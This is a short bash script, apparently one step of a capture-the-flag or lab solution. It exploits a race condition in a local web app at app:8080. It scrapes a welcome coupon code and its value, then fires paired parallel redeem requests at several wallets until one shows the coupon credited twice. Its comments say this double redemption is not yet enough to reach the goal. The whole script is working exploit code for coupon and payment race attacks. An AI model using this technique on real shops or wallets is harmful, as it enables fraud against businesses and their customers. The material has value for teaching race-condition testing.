# reaches: redeemed the coupon twice in one wallet
#-- two at once, which is not enough for the chest
coupon=$(curl -s http://app:8080/ | grep -o 'WELCOME-[0-9]*')
worth=$(curl -s http://app:8080/ | grep -o 'once, for [0-9]*' | grep -o '[0-9]*$')
for wallet in pair-one pair-two pair-three pair-four; do
    curl -s http://app:8080/open -d "wallet=$wallet"
    curl -s -o /dev/null -Z --parallel-immediate -d "wallet=$wallet" -d "coupon=$coupon" \
        http://app:8080/redeem http://app:8080/redeem
    curl -s "http://app:8080/wallet?name=$wallet" | grep -q "$((worth * 2))" && break
done
echo none
